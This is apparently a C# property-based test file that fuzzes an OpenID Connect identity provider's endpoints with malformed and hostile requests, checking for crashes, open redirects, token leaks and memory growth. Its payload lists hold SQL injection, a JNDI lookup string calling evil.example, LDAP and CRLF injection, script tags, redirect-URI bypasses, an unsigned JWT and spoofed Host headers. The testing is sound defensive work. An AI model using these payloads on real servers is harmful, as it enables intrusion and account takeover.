using System.Net;
using System.Text;
using AcRouenIdentity.Testing.Directories;
using AcRouenIdentity.Testing.Hosts;
using FsCheck;
using FsCheck.Fluent;

namespace AcRouenIdentity.Web.Tests.OpenId;

/// <summary>
/// Requests that no honest application sends, to every endpoint: parts left out, repeated, bent, of the wrong kind, from where they cannot come. Whatever comes, nothing breaks, nobody is sent
/// to an address that is not registered, no token is given, and memory stays as it was.
/// </summary>
public sealed class HostileRequestTests : IAsyncLifetime
{
    private const int Requests = 400;
    private const long MostGrowth = 48 * 1024 * 1024;

    private static readonly string[] Endpoints =
    [
        "/connect/authorize", "/connect/par", "/connect/token", "/connect/userinfo", "/connect/introspect", "/connect/revoke", "/connect/logout", "/connect/device", "/connect/register", "/appareil", "/.well-known/jwks", "/.well-known/jwks/mail", "/.well-known/openid-configuration",
    ];

    private static readonly string[] Names =
    [
        "client_id", "redirect_uri", "response_type", "response_mode", "scope", "state", "nonce", "code_challenge", "code_challenge_method", "prompt", "max_age", "acr_values", "login_hint", "id_token_hint", "ui_locales",
        "claims", "request", "request_uri", "resource", "audience", "grant_type", "code", "refresh_token", "code_verifier", "client_secret", "client_assertion", "client_assertion_type", "token", "token_type_hint",
        "subject_token", "subject_token_type", "requested_token_type", "actor_token", "post_logout_redirect_uri", "logout_hint", "username", "password", "registration", "dpop_jkt", "authorization_details", "",
    ];

    private static readonly string[] Nasty =
    [
        "", " ", "\0", "%00", "%C3%28", "%FF%FE", "\uD800", "\u202E", "null", "-1", "99999999999999999999", "1e308", "true", "[]", "{}", "javascript:alert(1)", "data:text/html,x", "https://evil.example/",
        "https://evil.example\\@localhost:5082/", "//evil.example", "\\\\evil.example", "http://localhost:5082/oidc/redirect_uri#x", "HTTP://LOCALHOST:5082/oidc/redirect_uri", "http://localhost:5082/oidc/redirect_uri/",
        "http://localhost:05082/oidc/redirect_uri", "http://a@localhost:5082/oidc/redirect_uri", "http://localhost:5082/oidc/%72edirect_uri", "http://localhost:5082/oidc/redirect_uri?x=https://evil.example",
        "'; DROP TABLE \"Sessions\"; --", "${jndi:ldap://evil.example/a}", "*)(uid=*", "<script>alert(1)</script>", "\r\nLocation: https://evil.example/", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "a.b.c.d.e", "....",
        "urn:ietf:params:oauth:request_uri:x", "authorization_code", "refresh_token", "password", "client_credentials", "implicit", "urn:ietf:params:oauth:grant-type:device_code",
        "urn:ietf:params:oauth:grant-type:token-exchange", "code id_token token", "web_message", "plain", "S256", "openid", "openid openid", "OPENID", "none login", "ent", "ENT", "roundcube", "mail",
    ];

    private static readonly string[] ContentTypes =
    [
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-16", "application/json", "multipart/form-data; boundary=x", "multipart/form-data", "text/plain", "application/xml", "x", "",
    ];

    private static readonly (string Name, string Value)[] Headers =
    [
        ("Host", "evil.example"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https"), ("X-Forwarded-For", "127.0.0.1, evil"), ("X-Forwarded-Prefix", "//evil.example"), ("Forwarded", "host=evil.example;proto=https"),
        ("X-Original-URL", "/connect/token"), ("Authorization", "Bearer "), ("Authorization", "Bearer a.b.c"), ("Authorization", "Basic !!!"), ("Authorization", "Basic ZW50Og=="), ("Authorization", "Basic OjpA"), ("Authorization", "Negotiate x"),
        ("Cookie", "__Host-session=x; session=%00"), ("Accept", "*/*;q=x"), ("Accept-Language", "xx-\u0001"), ("DPoP", "x"), ("DPoP", "eyJhbGciOiJub25lIn0.e30."), ("Authorization", "DPoP a.b.c"), ("Content-Encoding", "gzip"), ("Origin", "null"),
    ];

    private ProviderHost host = null!;
    private PlainBrowser browser = null!;
    private RelyingParty ent = null!;
    private HttpClient stranger = null!;
    private int codes;

    public async Task InitializeAsync()
    {
        host = await Applications.StartAsync(("OpenId:OpenRegistration:For", "MailPrograms"));
        browser = host.NewBrowser();
        ent = host.Ent();
        await browser.SignInAsync(SamplePeople.ClaireMartin);
        // Signed in, so that the authorization endpoint has something to give.
        stranger = new HttpClient(new SocketsHttpHandler { AllowAutoRedirect = false, CookieContainer = browser.Cookies }) { BaseAddress = host.Address };
    }

    public async Task DisposeAsync()
    {
        stranger.Dispose();
        ent.Dispose();
        browser.Dispose();
        await host.DisposeAsync();
    }

    [Fact]
    public async Task Whatever_comes_nothing_breaks_nobody_is_led_astray_no_token_is_given_and_memory_stays_flat()
    {
        await ent.SignInAsync(browser);
        Prop.ForAll(Drawn().ToArbitrary(), Survives).Check(Config.QuickThrowOnFailure.WithMaxTest(Requests / 4));
        var before = GC.GetTotalMemory(forceFullCollection: true);

        Prop.ForAll(Drawn().ToArbitrary(), Survives).Check(Config.QuickThrowOnFailure.WithMaxTest(Requests));

        (GC.GetTotalMemory(forceFullCollection: true) - before).Should().BeLessThan(MostGrowth);
        codes.Should().BePositive("requests that are hardly bent are among them");
        ent.Answer(await browser.GetAsync(ent.AuthorizePath())).Should().ContainKey("code", "honest people are served as before");
    }

    [Theory]
    [InlineData("/connect/authorize")]
    [InlineData("/connect/par")]
    [InlineData("/connect/token")]
    [InlineData("/connect/introspect")]
    [InlineData("/connect/revoke")]
    [InlineData("/connect/logout")]
    [InlineData("/connect/userinfo")]
    [InlineData("/connect/device")]
    [InlineData("/connect/register")]
    [InlineData("/appareil")]
    public async Task Ten_megabytes_and_a_value_a_hundred_thousand_deep_are_refused_and_forgotten(string endpoint)
    {
        var before = GC.GetTotalMemory(forceFullCollection: true);
        foreach (var value in (string[])[new string('a', 10_000_000), string.Concat(Enumerable.Repeat("{\"a\":", 10_000)), new string('[', 30_000)])
        {
            using var content = new StringContent($"client_id=ent&claims={value}", Encoding.UTF8, "application/x-www-form-urlencoded");
            using var answer = await stranger.PostAsync(new Uri(endpoint, UriKind.Relative), content);

            ((int)answer.StatusCode).Should().BeLessThan(500);
            answer.Headers.Location?.ToString().Should().NotContain("evil");
        }

        (GC.GetTotalMemory(forceFullCollection: true) - before).Should().BeLessThan(MostGrowth);
    }

    /// <summary>Most begin as an honest request, so that what is bent is not always the first thing that is looked at.</summary>
    private Gen<HostileRequest> Drawn()
    {
        var text = Gen.Frequency((6, Gen.Elements(Nasty)), (1, ArbMap.Default.GeneratorFor<NonNull<string>>().Select(drawn => drawn.Get)), (1, Gen.Choose(1, 4000).Select(length => new string('é', length))));
        var changes = Gen.Elements(Names).Zip(text).Zip(Gen.Elements(Enum.GetValues<Bending>())).Select(drawn => new Change(drawn.Item1.Item1, drawn.Item1.Item2, drawn.Item2));
        var headers = Gen.Choose(0, 2).SelectMany(count => Gen.ListOf(Gen.Elements(Headers), count));
        return
            from endpoint in Gen.Frequency((1, Gen.Constant("/connect/authorize")), (3, Gen.Elements(Endpoints)))
            from method in Gen.Frequency((5, Gen.Constant("POST")), (4, Gen.Constant("GET")), (1, Gen.Elements("PUT", "HEAD", "OPTIONS", "PATCH", "TRACE")))
            from contentType in Gen.Frequency((6, Gen.Constant(ContentTypes[0])), (3, Gen.Elements(ContentTypes)))
            from count in Gen.Choose(0, 4)
            from bent in Gen.ListOf(changes, count)
            from sent in headers
            select new HostileRequest(endpoint, method, contentType, [.. bent.Aggregate(HonestFor(endpoint), (parameters, change) => change.Apply(parameters))], [.. sent]);
    }

    private IEnumerable<(string Name, string Value)> HonestFor(string endpoint) => endpoint switch
    {
        "/connect/authorize" or "/connect/par" =>
        [
            ("client_id", ent.ClientId), ("redirect_uri", ent.RedirectUri), ("response_type", "code"), ("scope", "openid email"), ("state", "s"), ("nonce", "n"),
            ("code_challenge", new string('a', 43)), ("code_challenge_method", "S256"), ("client_secret", ent.Secret!),
        ],
        "/connect/token" => [("client_id", "roundcube"), ("grant_type", "authorization_code"), ("code", new string('c', 43)), ("redirect_uri", ent.RedirectUri), ("code_verifier", new string('v', 43))],
        "/connect/device" => [("client_id", ent.ClientId), ("client_secret", ent.Secret!), ("scope", "openid")],
        "/connect/logout" => [("post_logout_redirect_uri", "http://localhost:5082/"), ("state", "s"), ("client_id", ent.ClientId)],
        _ => [("client_id", ent.ClientId), ("client_secret", ent.Secret!), ("token", "x")],
    };

    private bool Survives(HostileRequest request) => Task.Run(() => SurvivesAsync(request)).GetAwaiter().GetResult();

    private async Task<bool> SurvivesAsync(HostileRequest request)
    {
        using var message = request.Message();
        using var answer = await stranger.SendAsync(message);
        var text = await answer.Content.ReadAsStringAsync();
        codes += answer.Headers.Location?.Query.Contains("code=", StringComparison.Ordinal) == true ? 1 : 0;
        return (int)answer.StatusCode < 500 && IsKnown(answer.Headers.Location) && !text.Contains("access_token\":", StringComparison.Ordinal) && !text.Contains("id_token\":", StringComparison.Ordinal);
    }

    private bool IsKnown(Uri? location)
    {
        if (location is null)
            return true;
        var target = new Uri(host.Address, location);
        return target.Authority == host.Address.Authority || target.GetLeftPart(UriPartial.Path) is "http://localhost:5082/oidc/redirect_uri" or "http://localhost:5082/" or "http://localhost:5081/index.php/login/oauth" or "http://localhost:5081/";
    }

    private enum Bending
    {
        Set,
        Repeat,
        Remove,
        Append,
    }

    private sealed record Change(string Name, string Value, Bending Bending)
    {
        public IEnumerable<(string Name, string Value)> Apply(IEnumerable<(string Name, string Value)> parameters) => Bending switch
        {
            Bending.Set => parameters.Where(parameter => parameter.Name != Name).Append((Name, Value)),
            Bending.Repeat => parameters.Append((Name, Value)).Append((Name, Value)),
            Bending.Remove => parameters.Where(parameter => parameter.Name != Name),
            Bending.Append => parameters.Select(parameter => parameter.Name == Name ? (Name, parameter.Value + Value) : parameter),
        };
    }

    private sealed record HostileRequest(string Endpoint, string Method, string ContentType, IReadOnlyList<(string Name, string Value)> Parameters, IReadOnlyList<(string Name, string Value)> Sent)
    {
        public HttpRequestMessage Message()
        {
            var form = string.Join('&', Parameters.Select(parameter => $"{parameter.Name}={Encoded(parameter.Value)}"));
            var inBody = Method is "POST" or "PUT" or "PATCH";
            var message = new HttpRequestMessage(new HttpMethod(Method), inBody ? Endpoint : $"{Endpoint}?{form[..Math.Min(form.Length, 8000)]}");
            if (inBody)
            {
                message.Content = new ByteArrayContent(Encoding.UTF8.GetBytes(form));
                message.Content.Headers.TryAddWithoutValidation("Content-Type", ContentType);
            }

            foreach (var (name, value) in Sent)
                if (!message.Headers.TryAddWithoutValidation(name, value))
                    message.Content?.Headers.TryAddWithoutValidation(name, value);
            return message;
        }

        public override string ToString() =>
            $"{Method} {Endpoint} ({ContentType}) {string.Join('&', Parameters.Select(parameter => $"{parameter.Name}={parameter.Value[..Math.Min(parameter.Value.Length, 80)]}"))} [{string.Join(", ", Sent)}]";

        // What is encoded already goes as it is: it is wrong on purpose.
        private static string Encoded(string value) => value.Contains('%', StringComparison.Ordinal) ? value.Replace("&", "", StringComparison.Ordinal).Replace(" ", "+", StringComparison.Ordinal) : WebUtility.UrlEncode(value);
    }
}
